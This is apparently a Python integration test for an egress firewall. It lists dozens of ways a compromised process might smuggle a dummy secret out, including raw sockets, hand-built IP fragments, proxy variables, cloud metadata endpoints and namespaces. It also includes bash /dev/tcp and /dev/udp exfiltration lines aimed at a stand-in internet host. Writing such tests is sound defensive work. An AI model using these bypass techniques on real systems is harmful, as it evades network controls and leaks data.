"""Ways around the courier, each as what a process that has been taken over would try.

Each must be seen at the cable without the rules, so that the test can fail; with them nothing crosses, and the named
counter grows. `python -m tests.bench.egress` counts them as `bypasses_passed`.
"""

from __future__ import annotations

import encodings.idna  # noqa: F401  (a process of another account may not load it later)
import os
import select
import socket
import struct
import subprocess
import urllib.request
from collections.abc import Callable
from contextlib import suppress
from dataclasses import dataclass
from typing import Final

from tests.integration.egress.cable import (
    COURIER,
    GATEWAY,
    GATEWAY6,
    INTERNET,
    INTERNET6,
    METADATA,
    METADATA6,
    NODE,
    OTHER,
    RESOLVER,
    SECOND,
    SECOND6,
    WORKER,
)

SECRET: Final = b"what a customer said"
RELAY_SOCKET: Final = "\0postern-test-relay"
LOCAL_RESOLVER: Final = "127.0.0.53"
PROXY_PORT: Final = 3128
RELAY_S_MAX: Final = 5.0
LOCAL_S_MAX: Final = 0.2
"""To connect on this machine, which the kernel does by itself."""
TO_LARGE: Final = 4_000
"""Bytes: more than a frame holds, so that the kernel makes fragments."""


@dataclass(frozen=True)
class Attempt:
    """`counter`: the one that must grow. `raw`: with a right that the units take from all processes."""

    name: str
    user: int
    work: Callable[[], object]
    counter: str
    raw: bool = False


def tcp(
    to: str, port: int, family: int = socket.AF_INET, interface: str = "", own_port: int = 0
) -> Callable[[], object]:
    """The first packet of a connection; `own_port`: 0 for any."""

    def work() -> None:
        with socket.socket(family) as out:
            if interface:
                out.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, interface.encode())
            if own_port:
                out.bind(("", own_port))
            out.setblocking(False)
            with suppress(BlockingIOError, PermissionError):
                out.connect((to, port))

    return work


def udp(
    to: str, port: int, family: int = socket.AF_INET, content: bytes = SECRET, protocol: int = 0
) -> Callable[[], object]:
    def work() -> None:
        with socket.socket(family, socket.SOCK_DGRAM, protocol) as out, suppress(PermissionError):
            out.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
            out.sendto(content, (to, port))

    return work


def raw(to: str, protocol: int, content: bytes, family: int = socket.AF_INET) -> Callable[[], object]:
    def work() -> None:
        with socket.socket(family, socket.SOCK_RAW, protocol) as out, suppress(PermissionError):
            out.sendto(content, (to, 0))

    return work


def fragments() -> None:
    """A datagram in two pieces, made by hand."""
    segment = struct.pack("!HHHH", 4000, 443, 8 + 24, 0) + SECRET.ljust(24)
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as out:
        for place, piece, more in ((0, segment[:16], 0x2000), (2, segment[16:], 0)):
            header = struct.pack(
                "!BBHHHBBH4s4s", 0x45, 0, 20 + len(piece), 7, more | place, 64, 17, 0,
                socket.inet_aton("10.77.0.2"), socket.inet_aton(INTERNET),
            )  # fmt: skip
            with suppress(PermissionError):
                out.sendto(header + piece, (INTERNET, 0))


def fast_open() -> None:
    """Data in a connection's first packet."""
    with socket.socket() as out:
        out.setblocking(False)
        with suppress(BlockingIOError, PermissionError):
            out.sendto(SECRET, socket.MSG_FASTOPEN, (INTERNET, 443))


def through_variables() -> None:
    """What many libraries obey without being asked."""
    os.environ["http_proxy"] = f"http://{INTERNET}:{PROXY_PORT}"
    socket.setdefaulttimeout(0.2)
    with suppress(OSError):
        urllib.request.urlopen("http://example.com/" + SECRET.hex())


def by_another_program() -> None:
    subprocess.run(
        ("bash", "-c", f"echo secret > /dev/udp/{INTERNET}/443"), stderr=subprocess.DEVNULL, check=False
    )


def by_an_orphan() -> None:
    """A program whose parent has ended: nobody's child, but still this account's."""
    pipe = os.pipe()
    if os.fork() == 0:
        if os.fork() == 0:
            tcp(INTERNET, 443)()
            os.write(pipe[1], b"x")
        os._exit(0)
    os.read(pipe[0], 1)


def in_a_user_namespace() -> None:
    """Root, but of nothing. By a program: a process with threads of a library cannot change its own."""
    connect = f"exec 3<>/dev/tcp/{INTERNET}/443"
    subprocess.run(
        ("unshare", "--user", "timeout", "2", "bash", "-c", connect), stderr=subprocess.DEVNULL, check=False
    )


def over_ethernet() -> None:
    """Below IP, where no rule of IP looks."""
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as out:
        out.bind(("lan", 0x0800))
        out.send(b"\xff" * 12 + b"\x08\x00" + b"\x45" + SECRET.ljust(60))


def relay() -> None:
    """Another user's program that hands on what it is given: a resolver, a proxy, a daemon with a Unix socket."""
    asked = socket.socket(type=socket.SOCK_DGRAM)
    asked.bind((LOCAL_RESOLVER, 53))
    handed = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM)
    handed.bind(RELAY_SOCKET)
    called = socket.socket(type=socket.SOCK_DGRAM)
    called.bind(("127.0.0.1", PROXY_PORT))
    proxy = socket.create_server(("127.0.0.1", PROXY_PORT))
    os.write(int(os.environ["RELAY_READY"]), b"x")
    while True:
        for inside in select.select((asked, handed, called, proxy), (), ())[0]:
            if inside is proxy:
                with proxy.accept()[0]:
                    udp(RESOLVER, 53)()
                continue
            words, back = inside.recvfrom(2000)
            udp(RESOLVER, 53, content=words)()
            inside.sendto(b"done", back)


def through(family: int, to: object) -> Callable[[], object]:
    """Hand it to the relay, and wait until that has tried."""

    def work() -> None:
        with socket.socket(family, socket.SOCK_DGRAM) as out, suppress(PermissionError):
            if family == socket.AF_UNIX:
                out.bind("")  # any abstract name
            out.settimeout(RELAY_S_MAX)
            out.sendto(SECRET, to)  # type: ignore[arg-type]
            out.recv(100)

    return work


def through_local_proxy() -> None:
    """A proxy on this machine; the end of the connection says that it has tried."""
    with socket.socket() as out:
        out.settimeout(LOCAL_S_MAX)
        with suppress(TimeoutError):
            out.connect(("127.0.0.1", PROXY_PORT))
            out.settimeout(RELAY_S_MAX)
            out.recv(1)


ECHO: Final = b"\x08\x00\x00\x00\x00\x01\x00\x01" + SECRET
ECHO6: Final = b"\x80" + ECHO[1:]
V4, V6 = socket.AF_INET, socket.AF_INET6
ICMP, ICMP6 = socket.IPPROTO_ICMP, socket.IPPROTO_ICMPV6

ATTEMPTS: Final = (
    Attempt("TCP", NODE, tcp(INTERNET, 443), "node_refused_tcp"),
    Attempt("TCP, IPv6", NODE, tcp(INTERNET6, 443, V6), "node_refused_tcp"),
    Attempt("TCP, IPv4 in an IPv6 address", NODE, tcp(f"::ffff:{INTERNET}", 443, V6), "node_refused_tcp"),
    Attempt("TCP, an address of NAT64", NODE, tcp("64:ff9b::c633:6401", 443, V6), "node_refused_tcp"),
    Attempt("TCP, fast open", NODE, fast_open, "node_refused_tcp"),
    Attempt("TCP over another card", NODE, tcp(SECOND, 443, interface="wan"), "node_refused_tcp"),
    Attempt("TCP over another card, IPv6", NODE, tcp(SECOND6, 443, V6, "wan"), "node_refused_tcp"),
    Attempt("the metadata of a cloud", NODE, tcp(METADATA, 80), "node_refused_tcp"),
    Attempt("the metadata of a cloud, IPv6", NODE, tcp(METADATA6, 80, V6), "node_refused_tcp"),
    Attempt("the courier's proxy on this machine", NODE, through_local_proxy, "node_refused_tcp"),
    Attempt("the courier's proxy", NODE, tcp(GATEWAY, PROXY_PORT), "node_refused_tcp"),
    Attempt("UDP", NODE, udp(INTERNET, 443), "node_refused_udp"),
    Attempt("UDP, IPv6", NODE, udp(INTERNET6, 443, V6), "node_refused_udp"),
    Attempt(
        "UDP, larger than a frame", NODE, udp(INTERNET, 443, content=bytes(TO_LARGE)), "node_refused_udp"
    ),
    Attempt("UDP to the router", NODE, udp(GATEWAY, 5000), "node_refused_udp"),
    Attempt("multicast", NODE, udp("239.7.7.7", 5000), "node_refused_udp"),
    Attempt("multicast, IPv6", NODE, udp("ff0e::7", 5000, V6), "node_refused_udp"),
    Attempt("broadcast", NODE, udp("255.255.255.255", 5000), "node_refused_udp"),
    Attempt("a name, public resolver", NODE, udp(RESOLVER, 53), "node_refused_udp"),
    Attempt("a name, the site's resolver", NODE, udp(GATEWAY, 53), "node_refused_udp"),
    Attempt("a name, this machine's resolver", NODE, through(V4, (LOCAL_RESOLVER, 53)), "node_refused_udp"),
    Attempt("a name over TCP", NODE, tcp(GATEWAY, 53), "node_refused_tcp"),
    Attempt("a name over TLS", NODE, tcp(GATEWAY6, 853, V6), "node_refused_tcp"),
    Attempt("ping", NODE, udp(INTERNET, 0, V4, ECHO, ICMP), "node_refused_icmp"),
    Attempt("ping, IPv6", NODE, udp(INTERNET6, 0, V6, ECHO6, ICMP6), "node_refused_icmp"),
    Attempt("a relay of another user", NODE, through(V4, ("127.0.0.1", PROXY_PORT)), "other_refused"),
    Attempt("a relay's Unix socket", NODE, through(socket.AF_UNIX, RELAY_SOCKET), "other_refused"),
    Attempt("variables of proxies", NODE, through_variables, "node_refused_tcp"),
    Attempt("another program", NODE, by_another_program, "node_refused_udp"),
    Attempt("an orphan", NODE, by_an_orphan, "node_refused_tcp"),
    Attempt("a user namespace", NODE, in_a_user_namespace, "node_refused_tcp"),
    Attempt("raw ICMP", NODE, raw(INTERNET, ICMP, ECHO), "node_refused_icmp", raw=True),
    Attempt("raw UDP", NODE, raw(INTERNET, 17, bytes(8) + SECRET), "node_refused_udp", raw=True),
    Attempt("raw TCP, IPv6", NODE, raw(INTERNET6, 6, bytes(20) + SECRET, V6), "node_refused_tcp", raw=True),
    Attempt("fragments by hand", NODE, fragments, "node_refused_udp", raw=True),
    Attempt("SCTP", NODE, raw(INTERNET, 132, bytes(12) + SECRET), "node_refused_raw", raw=True),
    Attempt("a tunnel to the router", NODE, raw(GATEWAY, 4, SECRET.ljust(40)), "node_refused_raw", raw=True),
    Attempt("a protocol that nobody has", NODE, raw(INTERNET, 253, SECRET), "node_refused_raw", raw=True),
    Attempt("worker: TCP", WORKER, tcp(INTERNET, 443), "worker_refused_tcp"),
    Attempt("worker: the site's network", WORKER, tcp(GATEWAY, 443), "worker_refused_tcp"),
    Attempt("worker: IPv6", WORKER, udp(INTERNET6, 443, V6), "worker_refused_udp"),
    Attempt("worker: a name", WORKER, through(V4, (LOCAL_RESOLVER, 53)), "worker_refused_udp"),
    Attempt("worker: ping", WORKER, udp(INTERNET, 0, V4, ECHO, ICMP), "worker_refused_icmp"),
    Attempt("worker: raw", WORKER, raw(INTERNET, 253, SECRET), "worker_refused_raw", raw=True),
    Attempt("courier: UDP", COURIER, udp(INTERNET, 443), "courier_refused_udp"),
    Attempt("courier: ping", COURIER, udp(INTERNET, 0, V4, ECHO, ICMP), "courier_refused_icmp"),
    Attempt("courier: raw", COURIER, raw(INTERNET, 253, SECRET), "courier_refused_raw", raw=True),
    Attempt("another user: TCP", OTHER, tcp(INTERNET, 443), "other_refused"),
    Attempt("another user: a name", OTHER, udp(RESOLVER, 53), "other_refused"),
)
